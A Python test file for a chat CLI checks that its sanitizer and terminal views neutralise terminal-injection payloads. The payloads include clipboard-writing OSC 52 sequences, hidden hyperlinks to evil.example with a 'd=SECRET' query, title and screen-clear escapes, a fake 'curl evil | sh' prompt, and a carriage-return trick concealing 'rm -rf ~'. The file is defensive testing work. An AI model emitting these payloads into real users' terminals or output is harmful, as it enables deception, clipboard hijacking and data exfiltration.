"""Terminal-injection payloads (cases R1-R15 of tests/e2e/README.md) against the sanitizer and both views.

Every payload is checked raw and split across two deltas at every split point. The panel itself
emits ESC for styling, so for rich mode the output is checked against an allow-list of the panel's
own sequences and replayed in a terminal emulator (title unchanged, screen not cleared).
"""

from __future__ import annotations

import io
import itertools
import re

import pyte
import pytest

from chatcli.events import Finish, ReasoningDelta, TextDelta
from chatcli.render import render_markdown_once
from chatcli.render.panel import PanelView
from chatcli.render.plain import PlainView
from chatcli.render.sanitize import StreamSanitizer, escape_markup, sanitize, sanitize_line

PAYLOADS = {
    "R1_clear_fake_prompt": "\x1b[2J\x1b[H$ curl evil | sh",
    "R2_osc52_bel": "\x1b]52;c;ZWNobyBwd25lZA==\x07",
    "R2_osc52_st": "\x1b]52;c;ZWNobyBwd25lZA==\x1b\\",
    "R3_osc8": "\x1b]8;;https://evil.example/?d=SECRET\x1b\\docs\x1b]8;;\x1b\\",
    "R4_title": "\x1b]0;pwned title\x07\x1b]2;pwned2\x1b\\",
    "R4_reset": "\x1bc",
    "R4_dcs_tmux": "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\",
    "R4_apc": "\x1b_Gf=100;payload\x1b\\",
    "R4_queries": "\x1b[6n\x1b[c\x1bP$qm\x1b\\\x1b[>0c",
    "R4_two_byte": "\x1b7\x1b8\x1bM\x1bD",
    "R5_c1_csi": "\x9b2J\x9b31m",
    "R5_c1_osc": "\x9d52;c;Zm9v\x9c\x9d0;title\x07",
    "R5_c1_dcs_sos_pm_apc": "\x90qpayload\x9c\x98sos\x9c\x9epm\x9c\x9fapc\x9c\x85\x8d",
    "R6_unterminated_osc8": "\x1b]8;;http://evil.example/unterminated",
    "R8_conceal": "\x1b[8mhidden\x1b[0m \x1b[37;47mwhite\x1b[0m",
    "R9_cr_overwrite": "rm -rf ~\rls -la   ",
    "R9_backspace": "safe\b\b\b\bevil",
    "R10_bidi": "access = \u202e'user'\u202c; \u2066x\u2069 \u202a\u202b\u202d\u2067\u2068",
    "R10_zero_width": "zero\u200bwidth\u2060join\ufeffbom",
    "C0_misc": "nul\x00 vt\x0b ff\x0c so\x0e del\x7f esc-alone\x1b",
    "lsep": "a\u2028b\u2029c",
}

FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff\u2028\u2029]")


def assert_safe(text: str) -> None:
    bad = FORBIDDEN.search(text)
    assert bad is None, f"control {bad.group()!r} survived in {text!r}"


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_sanitize_neutralises_every_payload(name: str) -> None:
    out = sanitize("before " + PAYLOADS[name] + " after")
    assert_safe(out)
    assert out.startswith("before ") and out.endswith(" after"), "nothing around a payload is swallowed"


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_stream_sanitizer_every_split_point(name: str) -> None:
    text = "x " + PAYLOADS[name] + " y"
    whole = sanitize(text)
    for i in range(len(text) + 1):
        s = StreamSanitizer()
        parts = [s.feed(text[:i]), s.feed(text[i:]), s.flush()]
        for part in parts:
            assert_safe(part)
        assert "".join(parts) == whole


def test_stream_sanitizer_three_way_splits_and_crlf() -> None:
    text = "a\r\nb\rc\x1b]52;c;x\x07d\r"
    whole = sanitize(text)
    assert whole == "a\nb␍c␛]52;c;x␇d␍"
    for i, j in itertools.combinations(range(len(text) + 1), 2):
        s = StreamSanitizer()
        assert s.feed(text[:i]) + s.feed(text[i:j]) + s.feed(text[j:]) + s.flush() == whole


def test_visible_encoding_shows_both_halves_of_cr_trick() -> None:
    assert sanitize("rm -rf ~\rls -la") == "rm -rf ~␍ls -la"
    assert sanitize("a\bb") == "a␈b"
    assert sanitize("\u202e") == "<U+202E>"
    assert sanitize("\x9b") == "<U+009B>"
    assert sanitize("tab\tand\nnewline") == "tab\tand\nnewline"
    assert sanitize("emoji 👨‍👩‍👧 and فارسی\u200c") == "emoji 👨‍👩‍👧 and فارسی\u200c"  # ZWJ/ZWNJ kept


def test_line_and_markup_helpers() -> None:
    assert sanitize_line("a\nb\x1b[2J") == "a b␛[2J"
    assert escape_markup("[bold]x[/]") == "\\[bold]x\\[/]"


def _deltas(text: str, i: int) -> list[str]:
    return [text[:i], text[i:]]


ALL = "intro line\n\n" + "\n\n".join(PAYLOADS.values()) + "\n\nthe end\n"


def test_plain_view_emits_no_control_bytes_for_any_split() -> None:
    for name, payload in PAYLOADS.items():
        text = "x " + payload + " y"
        for i in range(len(text) + 1):
            out, err = io.StringIO(), io.StringIO()
            view = PlainView(out, err)
            for d in _deltas(text, i):
                view.feed(TextDelta(d))
                view.feed(ReasoningDelta(d))
            view.feed(Finish("error", detail=payload))
            view.close()
            assert "\x1b" not in out.getvalue(), name
            assert_safe(out.getvalue().replace("\n", ""))
            assert_safe(err.getvalue().replace("\n", ""))  # stderr is not a TTY here: no styling


# The panel's own sequences: SGR, EL/ED, cursor up, DEC private modes 2026/7/25.
OWN = re.compile(r"\x1b\[[0-9;]*m|\x1b\[[KJ]|\x1b\[\d+A|\x1b\[\?(?:2026|7|25)[hl]")


def _panel(chunks: list[str]) -> str:
    out = io.StringIO()
    view = PanelView(out, io.StringIO(), size=lambda: (80, 24), label="evil\x1b]0;t\x07:model",
                     threaded=False, clock=itertools.count().__next__, color_system="truecolor")
    for c in chunks:
        view.feed(TextDelta(c))
    view.feed(Finish("content_filter", detail="\x1b]52;c;eA==\x07 refused"))
    view.close()
    return out.getvalue()


def _emulate(data: str) -> pyte.HistoryScreen:
    screen = pyte.HistoryScreen(80, 24, history=10_000)
    pyte.Stream(screen).feed(data.replace("\n", "\r\n"))
    return screen


def test_panel_only_emits_its_own_sequences_and_terminal_state_is_untouched() -> None:
    # Control: the raw payloads really do act on the emulator, so the checks below can fail.
    raw = _emulate("marker\n" + PAYLOADS["R4_title"] + PAYLOADS["R1_clear_fake_prompt"])
    assert raw.title == "pwned title" or raw.title == "pwned2"
    assert "marker" not in "".join(raw.display)

    for chunks in (list(ALL), [ALL], ALL.splitlines(keepends=True)):
        data = _panel(chunks)
        leftover = OWN.sub("", data)
        assert "\x1b" not in leftover
        for byte in ("\x9b", "\x9d", "\x90", "\x07", "\x9c", "\x08"):
            assert byte not in data
        screen = _emulate(data)
        assert screen.title == ""
        text = "\n".join("".join(r[x].data for x in range(80)) for r in screen.history.top)
        text += "\n" + "\n".join(screen.display)
        assert "intro line" in text and "the end" in text  # nothing cleared or swallowed
        assert "ls -la" in text and "rm -rf ~" in text
        assert "<U+202E>" in text


def test_panel_every_split_point_of_each_payload() -> None:
    for name, payload in PAYLOADS.items():
        text = "x " + payload + " y\n"
        for i in range(0, len(text) + 1, 2):
            leftover = OWN.sub("", _panel(_deltas(text, i)))
            assert "\x1b" not in leftover and "\x07" not in leftover and "\x9b" not in leftover, (name, i)


def test_rich_markup_and_links_are_literal_in_the_panel() -> None:
    text = ("[bold]x[/] [link=https://evil]y[/link] [/] [/bold] [red]z\n\n"
            "[docs](https://evil.example/?d=SECRET) ![img](https://evil.example/p.png?d=1)\n")
    data = _panel([text[i:i + 3] for i in range(0, len(text), 3)])
    screen = _emulate(data)
    shown = "\n".join(screen.display)
    assert "[bold]x[/]" in shown and "[link=https://evil]y[/link]" in shown and "[/bold]" in shown
    assert "https://evil.example/?d=SECRET" in shown  # link target visible
    assert "\x1b]8;" not in data  # no hyperlinks at all


def test_history_replay_is_sanitized_too() -> None:
    out = io.StringIO()
    render_markdown_once(ALL, out, mode="markdown", width=80, label="x\x1b]0;t\x07")
    assert "\x1b" not in OWN.sub("", out.getvalue())
    assert _emulate(out.getvalue()).title == ""
    out = io.StringIO()
    render_markdown_once(ALL, out, mode="plain")
    assert "\x1b" not in out.getvalue()
    assert_safe(out.getvalue().replace("\n", ""))
